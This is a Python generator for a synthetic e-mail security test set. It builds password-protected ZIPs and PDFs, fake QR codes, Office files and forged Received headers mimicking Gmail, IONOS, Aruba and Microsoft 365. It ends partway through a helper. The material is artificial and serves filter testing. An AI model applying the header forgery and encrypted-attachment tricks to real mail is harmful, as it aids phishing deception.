#!/usr/bin/env python3
"""Deterministic builder for the audit21 e-mail test set (stdlib only).

Writes attack/*.eml, business/*.eml, MANIFEST.md and staff.txt into the
folder above gen/.  No clock, no randomness: every "random" value is derived
from SHA-256 of fixed seeds, so repeated runs give byte-identical output.
"""
import base64
import datetime as _dt
import hashlib
import io
import os
import quopri
import struct
import urllib.parse
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.dirname(HERE)

# ---------------------------------------------------------------- helpers --

def hx(*seed, n=16):
    return hashlib.sha256("|".join(map(str, seed)).encode()).hexdigest()[:n]


def hb(*seed, n=16):
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(("|".join(map(str, seed)) + "#%d" % i).encode()).digest()
        i += 1
    return out[:n]


_AL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def an(*seed, n=16, alphabet=_AL):
    b = hb(*seed, n=n)
    return "".join(alphabet[x % len(alphabet)] for x in b)


def tz(h, m=0):
    return _dt.timezone(_dt.timedelta(hours=h, minutes=m))


CET, GMT, EET, MSK, PST, EST, UTC = tz(1), tz(0), tz(2), tz(3), tz(-8), tz(-5), tz(0)
_DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
_MONS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def T(day, h, m, s=0, z=CET):
    month = 11 if day == 30 else 12
    return _dt.datetime(2026, month, day, h, m, s, tzinfo=z)


def at(t, secs, z=None):
    t2 = t + _dt.timedelta(seconds=secs)
    return t2.astimezone(z) if z is not None else t2


def _off(t):
    o = int(t.utcoffset().total_seconds() // 60)
    sign = "+" if o >= 0 else "-"
    o = abs(o)
    return "%s%02d%02d" % (sign, o // 60, o % 60)


def rfc(t, pad=True):
    d = "%02d" % t.day if pad else "%d" % t.day
    return "%s, %s %s %d %02d:%02d:%02d %s" % (_DAYS[t.weekday()], d, _MONS[t.month - 1], t.year,
                                               t.hour, t.minute, t.second, _off(t))


def pfx_date(t):
    t = t.astimezone(CET)
    return "%s, %2d %s %d %02d:%02d:%02d +0100 (CET)" % (_DAYS[t.weekday()], t.day, _MONS[t.month - 1],
                                                         t.year, t.hour, t.minute, t.second)


def crlf(b):
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def b64body(data):
    return crlf(base64.encodebytes(data))


def qpbody(raw):
    out = crlf(quopri.encodestring(raw.replace(b"\r\n", b"\n")))
    if not out.endswith(b"\r\n"):
        out += b"\r\n"
    return out


def _q_enc(b):
    out = []
    for x in b:
        c = chr(x)
        if c == " ":
            out.append("_")
        elif x < 128 and (c.isalnum() or c in "!*+-/"):
            out.append(c)
        else:
            out.append("=%02X" % x)
    return "".join(out)


def ew(s, cs="utf-8", q=False, csname=None, single=False):
    """RFC 2047 encoded words (split between characters, never inside one)."""
    if all(32 <= ord(c) < 127 for c in s):
        return s
    name = csname or cs
    maxp = 10000 if single else 75 - len(name) - 7

    def enc(x):
        b = x.encode(cs)
        return _q_enc(b) if q else base64.b64encode(b).decode()

    words, cur = [], ""
    for ch in s:
        if cur and len(enc(cur + ch)) > maxp:
            words.append(cur)
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(cur)
    return "\n ".join("=?%s?%s?%s?=" % (name, "Q" if q else "B", enc(w)) for w in words)


def A(name, email, cs="utf-8", q=False, csname=None, quote=False):
    if not name:
        return "<%s>" % email
    if all(32 <= ord(c) < 127 for c in name):
        if quote or any(c in name for c in ',.;:@()<>[]"'):
            return '"%s" <%s>' % (name.replace('"', '\\"'), email)
        return "%s <%s>" % (name, email)
    return "%s <%s>" % (ew(name, cs, q, csname), email)


def hl(x):
    if isinstance(x, str):
        x = x.encode("ascii")
    return x.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n") + b"\r\n"


class Part:
    def __init__(self, headers, body):
        self.headers = list(headers)
        self.body = body

    def render(self):
        return b"".join(hl(h) for h in self.headers) + b"\r\n" + self.body


def TXT(text, sub="plain", cs="utf-8", cte="quoted-printable", csname=None, csq=True, extra_ct="",
        extra=()):
    raw = text.encode(cs)
    if cte == "quoted-printable":
        body = qpbody(raw)
    elif cte == "base64":
        body = b64body(crlf(raw))
    else:
        body = crlf(raw)
        if not body.endswith(b"\r\n"):
            body += b"\r\n"
    name = csname or cs
    csv = '"%s"' % name if csq else name
    return Part(["Content-Type: text/%s; charset=%s%s" % (sub, csv, extra_ct),
                 "Content-Transfer-Encoding: %s" % cte] + list(extra), body)


def HTML(text, cs="utf-8", cte="quoted-printable", csname=None, csq=True, extra=()):
    return TXT(text, "html", cs, cte, csname, csq, "", extra)


def MP(sub, parts, bnd, preamble=None, params="", extra=()):
    ct = 'Content-Type: multipart/%s;\n\tboundary="%s"%s' % (sub, bnd, params)
    body = b""
    if preamble:
        body += preamble.encode() + b"\r\n\r\n"
    B = bnd.encode()
    body += b"\r\n".join(b"--" + B + b"\r\n" + p.render() for p in parts)
    body += b"\r\n--" + B + b"--\r\n"
    return Part([ct] + list(extra), body)


def ATT(data, ctype, fname, cte="base64", disp="attachment", cid=None, style="plain", extra_ct="",
        size=False, date_params=None, extra=()):
    if isinstance(data, str):
        data = data.encode("utf-8")
    if all(32 <= ord(c) < 127 for c in fname):
        nm, fn = 'name="%s"' % fname, 'filename="%s"' % fname
    elif style == "2231":
        nm = 'name="%s"' % ew(fname, single=True)
        fn = "filename*=utf-8''%s" % urllib.parse.quote(fname, safe="")
    else:
        nm = 'name="%s"' % ew(fname, single=True)
        fn = 'filename="%s"' % ew(fname, single=True)
    hdrs = ["Content-Type: %s;%s\n\t%s" % (ctype, extra_ct, nm)]
    if cid:
        hdrs.append("Content-ID: <%s>" % cid)
    d = "Content-Disposition: %s;\n\t%s" % (disp, fn)
    if size:
        d += ";\n\tsize=%d" % len(data)
    if date_params:
        d += ';\n\tcreation-date="%s";\n\tmodification-date="%s"' % (date_params, date_params)
    hdrs.append(d)
    hdrs.append("Content-Transfer-Encoding: %s" % cte)
    hdrs += list(extra)
    if cte == "base64":
        body = b64body(data)
    elif cte == "quoted-printable":
        body = qpbody(data)
    else:
        body = crlf(data)
    return Part(hdrs, body)


def RAWPART(headers, body_bytes):
    return Part(headers, body_bytes)

# ------------------------------------------------------------- file kinds --

ZDT = (2026, 11, 30, 9, 12, 0)


def mkzip(files, dt=ZDT):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=dt)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 3
            zi.external_attr = 0o100644 << 16
            zf.writestr(zi, data if isinstance(data, bytes) else data.encode("utf-8"))
    return bio.getvalue()


def _crc_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else c >> 1
        t.append(c)
    return t


_CRCT = _crc_table()


class _ZipCrypto:
    def __init__(self, pwd):
        self.k = [0x12345678, 0x23456789, 0x34567890]
        for b in pwd:
            self._upd(b)

    def _crc(self, c, b):
        return _CRCT[(c ^ b) & 0xFF] ^ (c >> 8)

    def _upd(self, b):
        k = self.k
        k[0] = self._crc(k[0], b)
        k[1] = (k[1] + (k[0] & 0xFF)) & 0xFFFFFFFF
        k[1] = (k[1] * 134775813 + 1) & 0xFFFFFFFF
        k[2] = self._crc(k[2], (k[1] >> 24) & 0xFF)

    def enc(self, data):
        out = bytearray()
        for p in data:
            t = (self.k[2] | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._upd(p)
        return bytes(out)


def _dos(dt):
    y, mo, d, h, mi, s = dt
    return ((h << 11) | (mi << 5) | (s // 2)), (((y - 1980) << 9) | (mo << 5) | d)


def mkzip_enc(files, pwd, dt=ZDT):
    """Traditional PKWARE (ZipCrypto) encrypted, deflated ZIP."""
    dtime, ddate = _dos(dt)
    local, central = b"", b""
    for name, data in files:
        if isinstance(data, str):
            data = data.encode("utf-8")
        nb = name.encode("utf-8")
        flag = 0x0001 | (0x0800 if any(ord(c) > 127 for c in name) else 0)
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        comp = co.compress(data) + co.flush()
        crc = zlib.crc32(data) & 0xFFFFFFFF
        head = hb("zipcrypto", name, n=11) + bytes([(crc >> 24) & 0xFF])
        encd = _ZipCrypto(pwd.encode("utf-8")).enc(head + comp)
        off = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flag, 8, dtime, ddate, crc, len(encd),
                             len(data), len(nb), 0) + nb + encd
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flag, 8, dtime, ddate, crc,
                               len(encd), len(data), len(nb), 0, 0, 0, 0, 0o100644 << 16, off) + nb
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(files), len(files), len(central), len(local), 0)
    return local + central + eocd


def _png_chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)


def png(w, h, pix, rgb=False):
    rows = []
    for y in range(h):
        row = bytearray([0])
        for x in range(w):
            v = pix(x, y)
            if rgb:
                row += bytes(v)
            else:
                row.append(v)
        rows.append(bytes(row))
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2 if rgb else 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) +
            _png_chunk(b"IDAT", zlib.compress(b"".join(rows), 9)) + _png_chunk(b"IEND", b""))


def qr_like(seed, mod=29, scale=6, quiet=4):
    """Grayscale QR-looking matrix (finder patterns + hashed modules, NOT decodable)."""
    bits = hb("qr", seed, n=mod * mod)

    def dark(mx, my):
        for fx, fy in ((0, 0), (mod - 7, 0), (0, mod - 7)):
            if fx <= mx < fx + 7 and fy <= my < fy + 7:
                dx, dy = mx - fx, my - fy
                ring = min(dx, dy, 6 - dx, 6 - dy)
                return ring != 1
            if fx - 1 <= mx <= fx + 7 and fy - 1 <= my <= fy + 7:
                return False
        if mx == 6 or my == 6:
            return (mx + my) % 2 == 0
        return bits[my * mod + mx] & 1 == 1

    size = (mod + 2 * quiet) * scale

    def pix(x, y):
        mx, my = x // scale - quiet, y // scale - quiet
        if 0 <= mx < mod and 0 <= my < mod and dark(mx, my):
            return 0
        return 255
    return size, size, pix


def photo_like(seed, w=96, h=64):
    b = hb("photo", seed, n=8)

    def pix(x, y):
        return ((x * b[0] // 40 + y * 2 + b[1]) % 256, (y * 3 + b[2]) % 256, (x + y + b[3]) % 256)
    return png(w, h, pix, rgb=True)

# ---- PDF ----


def _pdf_str(s):
    b = s.encode("cp1252", "replace")
    return b.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def _rc4(key, data):
    S = list(range(256))
    j = 0
    for i in range(256):
        j = (j + S[i] + key[i % len(key)]) % 256
        S[i], S[j] = S[j], S[i]
    i = j = 0
    out = bytearray()
    for c in data:
        i = (i + 1) % 256
        j = (j + S[i]) % 256
        S[i], S[j] = S[j], S[i]
        out.append(c ^ S[(S[i] + S[j]) % 256])
    return bytes(out)


def pdf(lines, title="Document", author="", producer="Microsoft: Print To PDF", links=(), image=None,
        password=None, seed="pdf", size=10):
    """Minimal single-page PDF 1.4.  lines: list of str (or (str, fontsize)).
    links: list of (url, (x1,y1,x2,y2)).  image: (w,h,pix) grayscale drawn at right/top.
    password: user password -> Standard security handler R2 (RC4 40-bit)."""
    fid = hb("pdfid", seed, title, n=16)
    key = None
    if password is not None:
        opad = (b"owner-" + fid[:4].hex().encode() + _PAD)[:32]
        okey = hashlib.md5(opad).digest()[:5]
        upad = (password.encode("latin-1") + _PAD)[:32]
        O = _rc4(okey, upad)
        P = -3904  # print allowed, no modify
        key = hashlib.md5(upad + O + struct.pack("<i", P) + fid).digest()[:5]
        U = _rc4(key, _PAD)

    def objkey(num):
        return hashlib.md5(key + struct.pack("<I", num)[:3] + b"\x00\x00").digest()[:10]

    def sx(num, s):  # string literal or encrypted hex string
        raw = s.encode("cp1252", "replace")
        if key is None:
            return b"(" + _pdf_str(s) + b")"
        return b"<" + _rc4(objkey(num), raw).hex().encode() + b">"

    # content stream
    cs = [b"BT", b"/F1 %d Tf" % size, b"%d TL" % (size + 4), b"50 790 Td"]
    for ln in lines:
        if isinstance(ln, tuple):
            txt, fs = ln
            cs.append(b"/F2 %d Tf (%s) Tj T* /F1 %d Tf" % (fs, _pdf_str(txt), size))
        else:
            cs.append(b"(" + _pdf_str(ln) + b") Tj T*")
    cs.append(b"ET")
    objs = {}
    nimg = None
    if image:
        w, h, pix = image
        data = bytes(pix(x, y) for y in range(h) for x in range(w))
        objs[7] = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                   b"/BitsPerComponent 8 /Filter /FlateDecode /Length %%LEN%% >>" % (w, h), zlib.compress(data, 9))
        cs.append(b"q 160 0 0 160 380 560 cm /Im1 Do Q")
        nimg = 7
    content = b"\n".join(cs) + b"\n"
    content = zlib.compress(content, 9)
    annots = []
    nxt = 8
    for url, rect in links:
        annots.append(nxt)
        objs[nxt] = (b"<< /Type /Annot /Subtype /Link /Rect [%d %d %d %d] /Border [0 0 0] "
                     b"/A << /S /URI /URI %%S%% >> >>" % rect, None, url)
        nxt += 1
    res = b"<< /Font << /F1 5 0 R /F2 6 0 R >>" + (b" /XObject << /Im1 7 0 R >>" if nimg else b"") + b" >>"
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources " + res +
            b" /Contents 4 0 R" + (b" /Annots [" + b" ".join(b"%d 0 R" % a for a in annots) + b"]" if annots else b"")
            + b" >>")
    body = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page,
        4: (b"<< /Length %LEN% /Filter /FlateDecode >>", content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
    }
    body.update(objs)
    for num in range(1, nxt):
        body.setdefault(num, b"<< >>")
    info_num = nxt
    cdate = "D:20261130091200+01'00'"
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    enc_num = None
    for num in sorted(body):
        v = body[num]
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n" % num)
        if isinstance(v, tuple) and len(v) == 3:  # link annotation
            d, _, url = v
            out.write(d.replace(b"%S%", sx(num, url)))
        elif isinstance(v, tuple):
            d, stream = v
            if key is not None:
                stream = _rc4(objkey(num), stream)
            out.write(d.replace(b"%LEN%", b"%d" % len(stream)) + b"\nstream\n" + stream + b"\nendstream")
        else:
            out.write(v)
        out.write(b"\nendobj\n")
    offsets[info_num] = out.tell()
    out.write(b"%d 0 obj\n<< /Title " % info_num + sx(info_num, title) + b" /Author " + sx(info_num, author) +
              b" /Producer " + sx(info_num, producer) + b" /CreationDate " + sx(info_num, cdate) + b" >>\nendobj\n")
    last = info_num
    if key is not None:
        enc_num = info_num + 1
        offsets[enc_num] = out.tell()
        out.write(b"%d 0 obj\n<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>\nendobj\n"
                  % (enc_num, O.hex().encode(), U.hex().encode(), P))
        last = enc_num
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1))
    for num in range(1, last + 1):
        out.write(b"%010d 00000 n \n" % offsets[num])
    tr = b"<< /Size %d /Root 1 0 R /Info %d 0 R /ID [<%s> <%s>]" % (last + 1, info_num, fid.hex().encode(),
                                                                   fid.hex().encode())
    if enc_num:
        tr += b" /Encrypt %d 0 R" % enc_num
    out.write(b"trailer\n" + tr + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()

# ---- OOXML ----


def _x(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def docx(paras, creator="User"):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>')
    body = "".join('<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % _x(p) for p in paras)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s'
           '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>' % body)
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>%s</dc:creator>'
            '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-30T08:12:00Z</dcterms:created>'
            '</cp:coreProperties>' % _x(creator))
    return mkzip([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", doc),
                  ("docProps/core.xml", core)], dt=(2026, 11, 30, 8, 12, 0))


def _col(i):
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def xlsx(rows, sheet="Sheet1", creator="User"):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          '<sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>' % _x(sheet))
    wbr = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
           '</Relationships>')
    xr = []
    for ri, row in enumerate(rows):
        cells = []
        for ci, v in enumerate(row):
            ref = "%s%d" % (_col(ci), ri + 1)
            if isinstance(v, (int, float)):
                cells.append('<c r="%s"><v>%s</v></c>' % (ref, v))
            else:
                cells.append('<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, _x(str(v))))
        xr.append('<row r="%d">%s</row>' % (ri + 1, "".join(cells)))
    sh = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
          % "".join(xr))
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>%s</dc:creator>'
            '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-30T08:12:00Z</dcterms:created>'
            '</cp:coreProperties>' % _x(creator))
    return mkzip([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
                  ("xl/_rels/workbook.xml.rels", wbr), ("xl/worksheets/sheet1.xml", sh),
                  ("docProps/core.xml", core)], dt=(2026, 11, 30, 8, 12, 0))


def ics(uid, summary, start, end, organizer, attendees, location="", description="", method="REQUEST",
        tzid="W. Europe Standard Time", url=None):
    def esc(s):
        return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")

    def fold(line):
        b = line.encode("utf-8")
        out, cur = [], b""
        for ch in line:
            cb = ch.encode("utf-8")
            if len(cur) + len(cb) > 73:
                out.append(cur)
                cur = b" "
            cur += cb
        out.append(cur)
        return b"\r\n".join(out)

    def f(t):
        return "%04d%02d%02dT%02d%02d%02d" % (t.year, t.month, t.day, t.hour, t.minute, t.second)
    L = ["BEGIN:VCALENDAR", "METHOD:%s" % method, "PRODID:Microsoft Exchange Server 2019", "VERSION:2.0",
         "BEGIN:VTIMEZONE", "TZID:%s" % tzid, "BEGIN:STANDARD", "DTSTART:16010101T030000", "TZOFFSETFROM:+0200",
         "TZOFFSETTO:+0100", "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10", "END:STANDARD",
         "BEGIN:DAYLIGHT", "DTSTART:16010101T020000", "TZOFFSETFROM:+0100", "TZOFFSETTO:+0200",
         "RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3", "END:DAYLIGHT", "END:VTIMEZONE", "BEGIN:VEVENT",
         "ORGANIZER;CN=%s:mailto:%s" % (organizer[0], organizer[1])]
    for n, e in attendees:
        L.append("ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s:mailto:%s" % (n, e))
    L += ["DESCRIPTION;LANGUAGE=en-US:%s" % esc(description), "UID:%s" % uid, "SUMMARY:%s" % esc(summary),
          "DTSTART;TZID=%s:%s" % (tzid, f(start)), "DTEND;TZID=%s:%s" % (tzid, f(end)), "CLASS:PUBLIC",
          "PRIORITY:5", "DTSTAMP:20261130T080000Z", "TRANSP:OPAQUE", "STATUS:CONFIRMED", "SEQUENCE:0",
          "LOCATION:%s" % esc(location)]
    if url:
        L.append("URL:%s" % url)
    L += ["BEGIN:VALARM", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M", "ACTION:DISPLAY", "END:VALARM",
          "END:VEVENT", "END:VCALENDAR"]
    return b"\r\n".join(fold(x) for x in L) + b"\r\n"


def p7s_placeholder():
    """Structurally valid DER PKCS#7 SignedData with no signers (placeholder signature)."""
    inner = bytes.fromhex("020101") + b"\x31\x00" + bytes.fromhex("300b06092a864886f70d010701") + b"\x31\x00"
    sd = b"\x30" + bytes([len(inner)]) + inner
    ctx = b"\xa0" + bytes([len(sd)]) + sd
    oid = bytes.fromhex("06092a864886f70d010702")
    body = oid + ctx
    return b"\x30" + bytes([len(body)]) + body

# ------------------------------------------------------------- messages --

MSGS = []


def tls_lines(tls):
    if tls == "1.3":
        return ["\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)",
                "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)",
                "\t(No client certificate requested)"]
    if tls == "1.2":
        return ["\t(using TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits))",
                "\t(No client certificate requested)"]
    return []


def qid(seed):
    return "4" + an("qid", seed, n=11, alphabet="BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789") + "z" + \
        an("qid2", seed, n=2, alphabet="BCDFGHJKLMNPQRSTVWXYZ0123456789")


def emit(folder, fname, desc, *, client, rcpt, t, rp, hdrs, body, relays=(), lag=3, tls="1.3"):
    helo, rdns, ip = client
    mxt = at(t, lag, CET)
    lines = ["Return-Path: <%s>" % rp]
    rl = ["Received: from %s (%s [%s])" % (helo, rdns, ip)] + tls_lines(tls)
    rl.append("\tby mx01.example.com (Postfix) with %s id %s" % ("ESMTPS" if tls else "ESMTP", qid(fname)))
    rl.append("\tfor <%s>; %s" % (rcpt, pfx_date(mxt)))
    lines.append("\n".join(rl))
    lines += list(relays)
    names = set()
    for h in hdrs:
        if isinstance(h, tuple):
            k, v = h
            names.add(k.lower())
            lines.append("%s: %s" % (k, v))
        else:
            lines.append(h)
            names.add((h.split(":", 1)[0] if isinstance(h, str) else h.split(b":", 1)[0].decode()).lower())
    if "date" not in names:
        lines.append("Date: %s" % rfc(t))
    if "mime-version" not in names:
        lines.append("MIME-Version: 1.0")
    data = b"".join(hl(x) for x in lines) + body.render()
    MSGS.append((folder, fname, desc, data))


def rx(tmpl, t, secs=0, z=None, pad=True):
    return tmpl.replace("{D}", rfc(at(t, secs, z), pad))

# --- sender-side infrastructure snippets ---


def gmail_infra(t, seed, rcpt, host=("mail-wr1-f48.google.com", "209.85.221.48"), z=PST):
    sid = "ffacd0b85a97d-%s" % hx("gsid", seed, n=10)
    relays = [rx("Received: by %s with SMTP id %s.%d\n        for <%s>; {D} (PST)"
                 % (host[0], sid, int(hx("n", seed, n=4), 16) % 900 + 100, rcpt), t, 1, z, pad=False),
              "X-Google-Smtp-Source: AGHT+IF" + an("gss", seed, n=60, alphabet=_AL + "+/"),
              rx("X-Received: by 2002:a05:6000:%s:b0:%s with SMTP id %s.%d.%d;\n        {D} (PST)" %
                 (hx("xr1", seed, n=4), hx("xr2", seed, n=3) + "b", sid, int(hx("a", seed, n=4), 16) % 90 + 10,
                  int(hx("b", seed, n=6), 16)), t, 1, z, pad=False)]
    extra = [("X-Gm-Message-State", "AOJu0Y" + an("gms", seed, n=52, alphabet=_AL + "+/")),
             ("X-Gm-Gg", "ASbGnc" + an("ggg", seed, n=70, alphabet=_AL + "+/"))]
    return (host[0], host[0], host[1]), relays, extra


def gmail_mid(seed):
    return "<CA%s@mail.gmail.com>" % an("gmid", seed, n=58, alphabet=_AL + "+_-=")


def gmail_bnd(seed):
    return "000000000000" + hx("gb", seed, n=16)


def ionos_infra(t, seed, login_ip="93.240.17.66", login_helo="PC-VERTRIEB03"):
    """lieferant-gmbh.de is hosted at IONOS (mout.kundenserver.de)."""
    relays = [rx("Received: from %s ([%s]) by mrelayeu.kundenserver.de\n (mreue%03d [212.227.15.167]) with ESMTPSA (Nemesis) id 1M%s; {D}"
                 % (login_helo, login_ip, int(hx("m", seed, n=2), 16) % 120, an("ion", seed, n=17)), t, 1, CET)]
    extra = [("X-Provags-ID", "V03:K1:" + an("prov", seed, n=64, alphabet=_AL + "+/")),
             ("X-UI-Out-Filterresults", "notjunk:1;V03:K0:" + an("uif", seed, n=12, alphabet=_AL + "+/") + "=")]
    return ("mout.kundenserver.de", "mout.kundenserver.de", "212.227.126.%d" % (130 + int(hx("i", seed, n=2), 16) % 8)), relays, extra


def aruba_infra(t, seed, login_ip="151.38.112.45", login_helo="FERRETTI-AMM01"):
    """ferretti-trasporti.it is hosted at Aruba."""
    n = int(hx("ar", seed, n=2), 16) % 4 + 15
    relays = [rx("Received: from %s ([%s])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid %s; {D}"
                 % (login_helo, login_ip, an("arid", seed, n=17)), t, 1, CET)]
    extra = [("X-CMAE-Envelope", "MS4xfP" + an("cmae", seed, n=96, alphabet=_AL + "+/"))]
    return ("smtpdh%d-1.aruba.it" % n, "smtpdh%d-1.aruba.it" % n, "62.149.155.%d" % (150 + n)), relays, extra


def m365_infra(t, seed, tenant_host="DU2PR03MB7894", region="eurprd03", rcpt=None, client=None, tenant_id=None):
    """Outbound from a Microsoft 365 tenant via EOP."""
    mb = tenant_host
    relays = [rx("Received: from %s.%s.prod.outlook.com ([fe80::%s:%s:%s:%s]) by\n %s.%s.prod.outlook.com\n ([fe80::%s:%s:%s:%s%%6]) with mapi id 15.20.9366.011; {D}"
                 % (mb, region, hx("f1", seed, n=4), hx("f2", seed, n=4), hx("f3", seed, n=4), hx("f4", seed, n=4), mb,
                    region, hx("f1", seed, n=4), hx("f2", seed, n=4), hx("f3", seed, n=4), hx("f4", seed, n=4)),
                 t, 0, GMT, pad=False),
